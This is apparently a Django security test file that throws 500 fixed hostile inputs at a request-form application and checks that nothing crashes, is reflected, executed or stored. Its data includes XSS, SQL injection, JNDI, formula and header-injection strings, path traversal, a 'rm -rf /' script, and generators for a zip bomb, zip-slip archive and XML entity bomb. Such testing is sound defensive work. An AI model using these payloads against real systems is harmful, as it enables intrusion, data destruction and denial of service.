"""Five hundred hostile inputs against the real views: no 500, nothing executed, nothing stored that should not be.

Deterministic: the same seed makes the same inputs.
"""

import io
import json
import random
import struct
import unicodedata
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import cache
from html.parser import HTMLParser
from typing import Any
from uuid import UUID

import pytest
from django.conf import settings
from django.core.files.storage import default_storage
from django.test import Client
from django.urls import reverse

from apps.courriels.models import Courriel
from apps.demandes import abus
from apps.demandes.models import Brouillon, Demande, MessageDemandeur, PieceBrouillon, PieceDemande
from apps.documents.models import Fichier
from apps.territoires.models import Territoire
from tests.factories import OrganismeFactory, ThemeFactory

from .publics import BESOIN, PROJET, VOUS, deposee, fichier, jusqu_a, lien_vers, pdf

pytestmark = pytest.mark.django_db
NOMBRE = 500
MARQUE = "zq7"  # carried by every markup payload, so that a reflection can be found

TEXTES: list[str] = [
    f"<script>alert('{MARQUE}')</script>",
    f'"><img src=x onerror=alert("{MARQUE}")>',
    f"'><svg/onload={MARQUE}()>",
    f"</textarea><script>{MARQUE}()</script>",
    f"</title><iframe src=javascript:{MARQUE}()>",
    f"{{{{ {MARQUE}|safe }}}}{{% load {MARQUE} %}}{{% include 'settings.py' %}}",
    f"${{jndi:ldap://{MARQUE}.test/a}}",
    f"javascript:{MARQUE}()",
    f"\u202e<b onmouseover={MARQUE}>\u202c",
    f'<!--#exec cmd="{MARQUE}"-->',
    f"&lt;script&gt;{MARQUE}&lt;/script&gt;",
    f"<style>*{{background:url(//{MARQUE}.test)}}</style>",
    "' OR '1'='1",
    "'; DROP TABLE demandes_demande; --",
    "1); SELECT pg_sleep(10); --",
    "\\' UNION SELECT password FROM comptes_utilisateur --",
    "%27%20OR%201=1",
    '=HYPERLINK("http://exemple.test","clic")',
    "=cmd|' /C calc'!A0",
    "+33612345678",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\x00",
    "avant\x00après",
    "\x1b[31mrouge\x1b[0m",
    "\u202eetirw sdrawkcab",
    "\u2066isolé\u2069 \u200b\u200d\ufeff",
    "Zal\u0336\u0337go" + "\u0301" * 300,
    "e\u0301" * 200,
    "\ufdfa" * 500,
    "𝕷𝖚𝖈𝖎𝖊 \U0001f469\u200d\U0001f33e \U000e0041",
    "\ud7ff\ue000\uffff\U0010ffff",
    "\r\nBcc: tous@example.org\r\n\r\nCorps",
    "nom\nSujet : Autre sujet",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "C:\\nul",
    "/dev/stdin",
    "NaN",
    "Infinity",
    "-0",
    "1e999",
    "9" * 400,
    "0x41",
    "١٢٣٤٥٦٧٨٩٠١٢٣٤",
    "²³¹⁴",
    "null",
    "undefined",
    "[object Object]",
    "true",
    "[]",
    '{"$gt": ""}',
    " " * 3000,
    "\n" * 3000,
    "A" * 100_000,
    "é" * 60_000,
    "a@" + "b" * 300 + ".fr",
    '"très étrange"@[127.0.0.1]',
    "lucie@example.org\r\nCc: x@example.org",
    "lucie@example.org,x@example.org",
    "用户@例子.广告",
    "73282932000074<script>",
    "356000000 00048",
    "46100 46100 46100",
    "(((((" * 200,
    "a" * 30 + "!" * 30_000,
    "-1",
    "0",
    "2147483648",
    "9223372036854775808",
    "tous",
    "retirer-1",
    "retirer-99999999999999999999",
    "retirer-../../1",
    "retirer-١",
]
CHAMPS = {
    1: ["prenom", "nom", "courriel", "telephone", "preference_contact"],
    2: ["genre", "entreprise", "projet", "commune", "emplois_prevus"],
    3: ["themes", "message", "partage", "comite"],
}
BONS: dict[int, dict[str, Any]] = {1: VOUS, 2: PROJET, 3: BESOIN}


@cache
def _bombe_zip() -> bytes:
    flux = io.BytesIO()
    with zipfile.ZipFile(flux, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", b"\x00" * 60_000_000)
    return flux.getvalue()


def _zip_qui_sort() -> bytes:
    flux = io.BytesIO()
    with zipfile.ZipFile(flux, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("../../evasion.txt", "dehors")
        z.writestr("word/document.xml", "<w/>")
    return flux.getvalue()


def _bombe_xml() -> bytes:
    flux = io.BytesIO()
    entites = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10 if i else "ha" * 10}">' for i in range(12))
    with zipfile.ZipFile(flux, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", f"<?xml version='1.0'?><!DOCTYPE x [{entites}]><Types>&a11;</Types>")
        z.writestr("word/document.xml", "<w/>")
    return flux.getvalue()


def _png_demesure() -> bytes:
    """A PNG of 100,000 × 100,000 pixels in a few bytes."""

    def bloc(nom: bytes, contenu: bytes) -> bytes:
        return struct.pack(">I", len(contenu)) + nom + contenu + struct.pack(">I", zlib.crc32(nom + contenu))

    entete = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 6, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + bloc(b"IHDR", entete) + bloc(b"IDAT", zlib.compress(b"\x00" * 1000)) + bloc(b"IEND", b"")
    )


# (name, content, must it be refused?)
FICHIERS: list[tuple[str, Callable[[], bytes], bool]] = [
    ("vide.pdf", lambda: b"", True),
    ("programme.pdf", lambda: b"MZ\x90\x00" + b"\x00" * 200, True),
    ("elf.docx", lambda: b"\x7fELF\x02\x01\x01" + b"\x00" * 200, True),
    ("script.sh", lambda: b"#!/bin/sh\nrm -rf /\n", True),
    ("page.html", lambda: f"<html><script>{MARQUE}()</script></html>".encode(), True),
    ("page.pdf", lambda: f"<html><script>{MARQUE}()</script></html>".encode(), True),
    ("dessin.svg", lambda: f'<svg xmlns="http://www.w3.org/2000/svg" onload="{MARQUE}()"/>'.encode(), True),
    ("dessin.png", lambda: f'<svg xmlns="http://www.w3.org/2000/svg" onload="{MARQUE}()"/>'.encode(), True),
    ("archive.zip", _zip_qui_sort, True),
    ("bombe.docx", _bombe_zip, True),
    ("xml.docx", _bombe_xml, True),
    ("evasion.docx", _zip_qui_sort, True),
    ("enorme.pdf", lambda: b"%PDF-1.4\n" + b"0" * (settings.FICHIER_TAILLE_MAX + 1), True),
    ("grande.png", _png_demesure, True),
    ("tronque.zip", lambda: b"PK\x03\x04" + b"\xff" * 40, True),
    ("../../../evasion.pdf", lambda: pdf().read(), False),
    ("..\\..\\evasion.pdf", lambda: pdf().read(), False),
    ("nul\x00caché.pdf", lambda: pdf().read(), False),
    ("<img src=x onerror=zq7()>.pdf", lambda: pdf().read(), False),
    ("facture\u202efdp.exe.pdf", lambda: pdf().read(), False),
    ("é" * 400 + ".pdf", lambda: pdf().read(), False),
    ("=cmd|'calc'!A0.pdf", lambda: pdf().read(), False),
    (".pdf", lambda: pdf().read(), False),
    ("CON.pdf", lambda: pdf().read(), False),
    ('guil"lemet\r\nSet-Cookie: a=b.pdf', lambda: pdf().read(), False),
]


def _cas() -> Iterator[tuple[str, Any]]:
    """What to send: a bad text in a field of a step, a bad file, a bad shape, a bad address, a bad tracking form."""
    hasard = random.Random(46100)
    fichiers = [("fichier", f) for f in FICHIERS]
    formes = [("forme", n) for n in range(30)]
    adresses = [("adresse", t) for t in TEXTES[:40]]
    suivis = [("suivi", t) for t in TEXTES]
    fixes = [*fichiers, *formes, *adresses, *suivis]
    paires = [(etape, champ, t) for etape, noms in CHAMPS.items() for champ in noms for t in TEXTES]
    hasard.shuffle(paires)
    yield from fixes
    yield from (("champ", p) for p in paires[: NOMBRE - len(fixes)])


CAS = list(_cas())


class Actif(HTMLParser):
    """What a browser would run or fetch in a page, beyond our own files."""

    def __init__(self) -> None:
        super().__init__()
        self.trouves: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        valeurs = {nom: valeur or "" for nom, valeur in attrs}
        source = valeurs.get("src", "")
        etranger = tag == "script" and not source.startswith("/static/")
        if etranger or tag in ("iframe", "object", "embed", "style", "base", "img"):
            self.trouves.append(tag)
        if any(nom.startswith("on") or nom == "style" for nom in valeurs):
            self.trouves.append(f"{tag} {valeurs}")
        adresse = valeurs.get("href", valeurs.get("action", ""))
        if adresse.strip().lower().startswith(("javascript:", "data:", "vbscript:")) or adresse.startswith("//"):
            self.trouves.append(adresse)
        if tag == "svg" and "icone" not in valeurs.get("class", ""):
            self.trouves.append(tag)


class Attaque:
    """One visitor, and what is checked after each thing that they send."""

    def __init__(self, territoire: Territoire) -> None:
        self.territoire = territoire
        self.client = Client(raise_request_exception=False)
        self.url = jusqu_a(self.client, territoire, 3)
        lien, self.lien = lien_vers(deposee(territoire))
        self.lien_pk = lien.pk

    def adresse(self, etape: int) -> str:
        return self.url.replace("/3/", f"/{etape}/")

    def verifier(self, reponse: Any, quoi: Any) -> None:
        assert reponse.status_code < 500, f"{quoi!r} : {reponse.status_code}"
        page = reponse.content.decode("utf-8", "replace")
        lecteur = Actif()
        lecteur.feed(page)
        assert lecteur.trouves == [], f"{quoi!r} is reflected: {lecteur.trouves}"
        assert "Set-Cookie: a=b" not in str(reponse.headers)
        assert "Traceback" not in page and "psycopg" not in page and "sqlite3" not in page

    def jeton(self, etape: str, cle: Any = None) -> str:
        return abus.nouveau_jeton(territoire_id=self.territoire.pk, etape=etape, cle=cle)

    @property
    def cle(self) -> UUID:
        return UUID(self.url.split("/")[3])

    @property
    def jeton_suivi(self) -> str:
        return self.jeton(f"suivi-{self.lien_pk}")

    def champ(self, quoi: tuple[int, str, str]) -> Any:
        """A bad text in one field: the answer, the step opened again, and the receipt when it was sent."""
        etape, nom, texte = quoi
        url = self.adresse(etape)
        action = texte if texte.startswith("retirer") else "envoyer" if etape == 3 else "continuer"
        envoi = {**BONS[etape], nom: texte, "action": action, abus.JETON: self.jeton(f"demande-{etape}", self.cle)}
        reponse = self.client.post(url, envoi)
        if reponse.status_code == 302 and reponse["Location"].endswith("/envoyee/"):
            self.verifier(self.client.get(reponse["Location"]), quoi)
            self.verifier(self.client.get(reponse["Location"].replace("envoyee", "recepisse")), quoi)
            self.url = jusqu_a(self.client, self.territoire, 3)
        else:
            self.verifier(self.client.get(url), quoi)
        if etape < 3:
            bon = {**BONS[etape], "action": "continuer", abus.JETON: self.jeton(f"demande-{etape}", self.cle)}
            assert self.client.post(url, bon).status_code == 302
        return reponse

    def fichier(self, quoi: tuple[str, Callable[[], bytes], bool]) -> Any:
        nom, contenu, refuse = quoi
        jeton = self.jeton("demande-3", self.cle)
        avant = PieceBrouillon.objects.count()
        reponse = self.client.post(
            self.url, {"fichiers": fichier(nom, contenu(), "application/pdf"), "action": "ajouter", abus.JETON: jeton}
        )
        gardes = PieceBrouillon.objects.count() - avant
        assert gardes == 0 or not refuse, f"{nom!r} was stored"
        self.verifier(self.client.get(self.url), nom)
        PieceBrouillon.objects.all().delete()
        autre = self.client.post(
            self.lien + "message/",
            {"texte": "", "fichiers": fichier(nom, contenu(), "text/html"), abus.JETON: self.jeton_suivi},
        )
        self.verifier(autre, nom)
        self.verifier(self.client.get(self.lien), nom)
        return reponse

    def adresse_faussee(self, texte: str) -> Any:
        self.verifier(self.client.get("/figeac/suivi/" + texte.replace("/", "%2F")[:300] + "/"), texte)
        self.verifier(self.client.get("/figeac/demande/" + texte.replace("/", "")[:300] + "/"), texte)
        return self.client.get(self.url, {"revoir": texte, "suite": texte, texte[:50]: texte[:50]})

    def suivi(self, texte: str) -> Any:
        envoi = {"texte": texte, "partage": texte, "comite": texte, "action": texte, abus.JETON: self.jeton_suivi}
        for suite in ("message/", "accord/"):
            self.verifier(self.client.post(self.lien + suite, envoi), texte)
        self.verifier(
            self.client.post(reverse("public:retrouver", args=["figeac"]), {"reference": texte, "courriel": texte}),
            texte,
        )
        reponse = self.client.get(self.lien)
        MessageDemandeur.objects.filter(demande__territoire=self.territoire).delete()
        return reponse

    def forme(self, numero: int) -> Any:
        """Wrong shapes: methods, bodies, types, jumps, missing or foreign signatures."""
        client, url = self.client, self.url
        jeton = self.jeton("demande-3", self.cle)
        bon = {**BESOIN, "action": "envoyer"}
        texte = json.dumps(bon)
        envois: list[Callable[[], Any]] = [
            lambda: client.post(url, bon),
            lambda: client.post(url, {**bon, abus.JETON: ""}),
            lambda: client.post(url, {**bon, abus.JETON: jeton[:-1]}),
            lambda: client.post(url, {**bon, abus.JETON: jeton + "A"}),
            lambda: client.post(url, {**bon, abus.JETON: [jeton, "x"]}),
            lambda: client.post(url, texte, content_type="application/json"),
            lambda: client.post(url, b"\xff\xfe\x00" * 100, content_type="application/x-www-form-urlencoded"),
            lambda: client.post(url, b"message=%ff%fe%00", content_type="application/x-www-form-urlencoded"),
            lambda: client.generic("POST", url, b"message=a", "application/x-www-form-urlencoded; charset=utf-7"),
            lambda: client.generic("POST", url, b"message=a", "application/x-www-form-urlencoded; charset=inconnu"),
            lambda: client.post(url, b"--x\r\nrien", content_type="multipart/form-data; boundary=x"),
            lambda: client.post(url, b"rien", content_type="multipart/form-data"),
            lambda: client.post(url, b"rien", content_type="multipart/form-data; boundary=" + "x" * 300),
            lambda: client.post(url, b"<x/>", content_type="text/xml"),
            lambda: client.post(url, b"a=1&" * 2500, content_type="application/x-www-form-urlencoded"),
            lambda: client.post(url, b"message=" + b"A" * 3_000_000, content_type="application/x-www-form-urlencoded"),
            lambda: client.put(url, b"x"),
            lambda: client.delete(url),
            lambda: client.patch(url, b"x"),
            lambda: client.options(url),
            lambda: client.get(url.replace("/3/", "/0/")),
            lambda: client.get(url.replace("/3/", "/4/")),
            lambda: client.post(url.replace("/3/", "/99999999999999999999/"), bon),
            lambda: client.get(url.replace("/3/", "/-1/")),
            lambda: client.post(self.adresse(1), {"nom": ["a", "b", "c"], abus.JETON: jeton}),
            lambda: client.post(self.lien + "message/", {"texte": "sans signature"}),
            lambda: client.post(self.lien + "message/", {"texte": "autre", abus.JETON: jeton}),
            lambda: client.get(self.lien + "message/"),
            lambda: client.post(url, {**bon, "themes": [str(i) for i in range(500)], abus.JETON: jeton}),
            lambda: client.get(url, headers={"X-Forwarded-For": "<script>" * 50, "Accept-Language": "\x7f" * 20}),
        ]
        avant = Demande.objects.count()
        reponse = envois[numero]()
        assert Demande.objects.count() == avant, numero
        return reponse

    def jouer(self, genre: str, quoi: Any) -> None:
        geste = {"adresse": self.adresse_faussee}.get(genre) or getattr(self, genre)
        self.verifier(geste(quoi), (genre, quoi if not callable(quoi) else genre))


def _textes_gardes() -> Iterator[str]:
    for modele in (Demande, MessageDemandeur, Fichier):
        for ligne in modele.objects.values():
            yield from (v for v in ligne.values() if isinstance(v, str))
    for brouillon in Brouillon.objects.all():
        for etape in brouillon.donnees.values():
            for valeurs in etape.values():
                yield from valeurs


def test_there_are_five_hundred_of_them() -> None:
    assert len(CAS) == NOMBRE
    assert {genre for genre, _ in CAS} == {"champ", "fichier", "forme", "adresse", "suivi"}


@pytest.mark.parametrize("lot", range(10))
def test_hostile_inputs(territoire: Territoire, lot: int, monkeypatch: pytest.MonkeyPatch) -> None:
    for geste in abus.LIMITES:
        monkeypatch.setitem(abus.LIMITES, geste, (1_000_000, 3600))
    ThemeFactory(territoire=territoire)
    OrganismeFactory(territoire=territoire)
    attaque = Attaque(territoire)
    for genre, quoi in CAS[lot::10]:
        attaque.jouer(genre, quoi)
    for texte in _textes_gardes():
        assert texte == unicodedata.normalize("NFC", texte)
        assert not any(unicodedata.category(c) == "Cc" and c not in "\n\t" for c in texte), repr(texte)
        assert not set(texte) & set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"), repr(texte)
        assert len(texte) <= 4000
    for courriel in Courriel.objects.all():
        assert "\n" not in courriel.sujet and "\r" not in courriel.sujet
        assert courriel.destinataire.count("@") == 1 and "\n" not in courriel.destinataire
        assert f"<script>{MARQUE}" not in courriel.corps_html and "<img" not in courriel.corps_html
    racine = default_storage.path("")
    for piece in [*PieceDemande.objects.select_related("fichier"), *PieceBrouillon.objects.select_related("fichier")]:
        nom, chemin = piece.fichier.nom, default_storage.path(piece.fichier.contenu.name)
        assert not set(nom) & set('/\\\x00\r\n<>"') and not nom.startswith("."), repr(nom)
        assert chemin.startswith(racine) and piece.fichier.taille <= settings.FICHIER_TAILLE_MAX
